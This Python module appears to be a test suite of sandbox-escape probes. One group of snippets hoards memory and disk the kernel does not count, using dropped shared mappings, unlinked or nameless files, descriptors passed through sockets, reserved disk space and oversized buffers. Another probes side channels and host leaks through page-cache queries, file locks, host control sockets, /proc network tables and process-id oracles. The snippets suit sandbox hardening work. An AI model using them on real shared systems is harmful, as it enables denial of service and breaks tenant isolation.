"""Attacks on what no limit of the kernel counts, and on what tells one executor of another.

Each prints ESCAPE if it works, with what it got. Those of `UNMETERED` hold `MB` megabytes if nobody stops them.
"""

MAPPING = """
import ctypes
MB, NOTHING = @@MB@@, (1 << 64) - 1
def mapped(size, protection, flags, file=-1):
    return libc.mmap(None, size, protection, flags, file, 0)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
libc.madvise.argtypes = libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
"""

UNMETERED = {
    "shared memory that is touched and dropped": """
m = mmap.mmap(-1, MB << 20)
for at in range(0, MB << 20, 1 << 24): m[at:at + (1 << 24)] = bytes(1 << 24); m.madvise(mmap.MADV_DONTNEED)
esc("dropped"); time.sleep(20)
""",
    "shared memory of the device of zeros": """
f = os.open("/dev/zero", os.O_RDWR); m = mmap.mmap(f, MB << 20)
for at in range(0, MB << 20, 4096): m[at]
m.madvise(mmap.MADV_DONTNEED); esc("dropped"); time.sleep(20)
""",
    "shared memory without a name": """
fd, e = raw("memfd_create", b"x", 0)
if fd < 0: fd, e = raw("shmget", 0, MB << 20, 0o1600)
if fd >= 0: esc("memory")
""",
    "page tables of mappings that are only read": """
got = 0
for _ in range(MB // 16):
    at = mapped(8 << 30, 1, 0x22)
    if at == NOTHING: break
    libc.madvise(at, 8 << 30, 15)
    for page in range(0, 8 << 30, 1 << 21): ctypes.string_at(at + page, 1)
    got += 16
if got > 32: esc(f"{got} MB"); time.sleep(20)
""",
    "memory that is filled and then only read": """
got = 0
while got < MB + 300:
    at = mapped(16 << 20, 3, 0x22)
    if at == NOTHING: break
    ctypes.memset(at, 1, 16 << 20); libc.mprotect(at, 16 << 20, 1); got += 16; time.sleep(0.01)
if got >= MB + 300: time.sleep(0.5); esc(f"{got} MB")
""",
    "a stack that grows": """
at = mapped(MB << 20, 3, 0x122)
if at != NOTHING: ctypes.memset(at, 1, MB << 20); esc("grown")
""",
    "unlinked files that stay open": """
for i in range(MB // 16):
    f = open(f"f{i}", "wb"); os.unlink(f"f{i}"); f.write(bytes(16 << 20)); f.flush(); globals()[f"f{i}"] = f
time.sleep(0.5); esc(MB)
""",
    "files that never had a name": """
held = []
for i in range(MB // 16):
    fd = os.open(".", os.O_TMPFILE | os.O_RDWR); os.write(fd, bytes(16 << 20)); held.append(fd)
time.sleep(0.5); esc(MB)
""",
    "unlinked files that are mapped and closed": """
held = []
for i in range(MB // 16):
    fd = os.open("f", os.O_CREAT | os.O_RDWR); os.write(fd, bytes(16 << 20)); held.append(mapped(4096, 1, 1, fd))
    os.close(fd); os.unlink("f")
time.sleep(0.7); esc(MB)
""",
    "files that others were moved over": """
held = []
for i in range(MB // 16):
    held.append(open("f", "wb", 0)); held[-1].write(bytes(16 << 20))
    open("g", "w").close(); os.replace("g", "f")
time.sleep(0.5); esc(MB)
""",
    "unlinked files on their way in a socket": """
import array
a, b = socket.socketpair()
for i in range(MB // 16):
    fd = os.open("f", os.O_CREAT | os.O_RDWR); os.write(fd, bytes(16 << 20)); os.unlink("f")
    a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))]); os.close(fd)
time.sleep(0.5); esc(MB)
""",
    "unlinked files of a thread that has descriptors of its own": """
pause = ctypes.cast(libc.pause, ctypes.c_void_p).value
libc.clone.argtypes = [ctypes.c_void_p, ctypes.c_void_p, ctypes.c_int, ctypes.c_void_p]
for shared in (0x50b00, 0x10900, 0x10d00, 0x10000):
    for i in range(MB // 16):
        fd = os.open("f", os.O_CREAT | os.O_RDWR); os.unlink("f")
        if libc.clone(pause, mapped(1 << 16, 3, 0x22) + (1 << 16) - 64, shared, None) < 0: break
        os.write(fd, bytes(16 << 20)); os.close(fd)
    else: time.sleep(0.7); esc(MB)
""",
    "unlinked files of a thread that has left the others' descriptors": """
fds, ended = [], threading.Event()
def leave(name, *given):
    # A range that ends with the last one that was open keeps all that are in it, in a table of its own.
    n, e = raw(name, *given)
    if n >= 0: fds.append((name, e)); ended.wait(9)
fd = os.open("f", os.O_CREAT | os.O_RDWR); os.unlink("f"); os.write(fd, bytes(16 << 20))
for given in (("unshare", 0x400), ("close_range", 900, 999, 2), ("close_range", 900, 999, 6)):
    one = threading.Thread(target=leave, args=given, daemon=True); one.start(); one.join(0.1)
if fds: esc(fds)
""",
    "space of a disk that is only reserved": """
try:
    for i in range(MB // 16):
        fd = os.open(f"f{i}", os.O_CREAT | os.O_RDWR)
        n, e = raw("fallocate", fd, 0, ctypes.c_long(0), ctypes.c_long(16 << 20))
        if n == 0: esc("reserved")
except OSError as e: print(e)
""",
    "space of a disk that the library reserves": """
for i in range(MB // 16):
    fd = os.open(f"f{i}", os.O_CREAT | os.O_RDWR); os.posix_fallocate(fd, 0, 16 << 20)
time.sleep(0.5); esc(MB)
""",
    "buffers of sockets": """
held = []
for i in range(100):
    a, b = socket.socketpair(); a.setblocking(False)
    for which in (socket.SO_SNDBUF, 32):
        try: a.setsockopt(socket.SOL_SOCKET, which, 1 << 24); esc("buffers of any size")
        except OSError as e: pass
    held += [a, b]
""",
    "signals that wait for whoever has blocked them": """
signal.pthread_sigmask(signal.SIG_BLOCK, range(34, 64))
for _ in range(4000): os.kill(os.getpid(), 40)
waiting = int(next(x for x in open("/proc/self/status") if x.startswith("SigQ")).split()[1].split("/")[0])
if waiting > 2000: esc(waiting)
""",
    "buffers of pipes": """
import fcntl
for i in range(60):
    r, w = os.pipe()
    try: fcntl.fcntl(w, 1031, 1 << 20); esc("pipes of any size")
    except OSError as e: print(e)
""",
}

CHANNELS = {
    "which pages of shared files others have read": """
with open(os.__file__, "rb") as f:
    m = mmap.mmap(f.fileno(), 4096, prot=1); vector = ctypes.create_string_buffer(8)
    start = int(next(x for x in open("/proc/self/maps") if "os.py" in x).split("-")[0], 16)
    n, e = raw("mincore", ctypes.c_void_p(start), ctypes.c_long(4096), vector)
    if not blocked(n, e): esc("mincore")
for name in ("cachestat", "preadv2"):
    if name in NR and not blocked(*raw(name, 0, 0, 0, 0, 0, 0)): esc(name)
""",
    "a lock on a file that all may read": """
import fcntl
with open(os.__file__, "rb") as f:
    try: fcntl.flock(f, fcntl.LOCK_EX | fcntl.LOCK_NB); esc("flock")
    except OSError as e: print(e)
""",
    "advice about pages that others share": """
start = int(next(x for x in open("/proc/self/maps") if "libc" in x).split("-")[0], 16)
for advice in (12, 20, 21, 25):
    if libc.madvise(start, 4096, advice) == 0: esc(advice)
""",
    "a datagram to a socket of the host": """
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK):
    try:
        a, b = socket.socketpair(socket.AF_UNIX, kind)
        for address in ("\\0" + ABSTRACT + "-datagrams", W + "/ctl.sock"):
            try: a.sendto(b"x", address)
            except OSError as e: print(e)
        esc("a datagram")
    except OSError as e: print(e)
""",
    "a message to a socket of the host, from a stream": """
for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
    a, b = socket.socketpair(socket.AF_UNIX, kind); b.close()
    for one in (a,):
        for address in ("\\0" + ABSTRACT, W + "/ctl.sock"):
            try: one.sendto(b"x", address); esc(address)
            except OSError as e: print(e)
            try: one.connect(address); esc(address)
            except OSError as e: print(e)
""",
    "the connections of the host": """
import glob
names = ("tcp", "tcp6", "udp", "unix", "route", "arp", "dev", "netstat")
own = f"task/{threading.get_native_id()}"
for folder in ("net", "self/net", "thread-self/net", f"self/{own}/net", f"{os.getpid()}/{own}/net", f"{SPID}/net"):
    for name in names:
        try:
            rows = open(f"/proc/{folder}/{name}").read()
            if f":{RUNTIME:04X}" in rows or ABSTRACT in rows: esc(folder + name)
        except OSError as e: print(e)
""",
    "the mounts of the host": """
for name in ("mountinfo", "mounts", "mountstats"):
    try:
        if "cgroup" in open(f"/proc/self/{name}").read(): esc(name)
    except OSError as e: print(e)
""",
    "which process ids are in use": """
import resource
free = 4_190_000
asks = {
    "getpgid": os.getpgid, "getsid": os.getsid, "affinity": os.sched_getaffinity, "scheduler": os.sched_getscheduler,
    "param": os.sched_getparam, "priority": lambda p: os.getpriority(os.PRIO_PROCESS, p),
    "kill": lambda p: os.kill(p, 0),
    "prlimit": lambda p: resource.prlimit(p, resource.RLIMIT_CPU), "clock": lambda p: time.clock_gettime((~p << 3) | 2),
    "resolution": lambda p: time.clock_getres((~p << 3) | 2), "pidfd": os.pidfd_open,
    "robust": lambda p: raw("get_robust_list", p, ctypes.create_string_buffer(8), ctypes.create_string_buffer(8)),
}
def said(ask, p):
    try: return str(ask(p))
    except OSError as e: return e.errno
for name, ask in asks.items():
    if len({str(said(ask, p)) for p in (VPID, SPID, free)}) > 1: esc(name)
""",
}
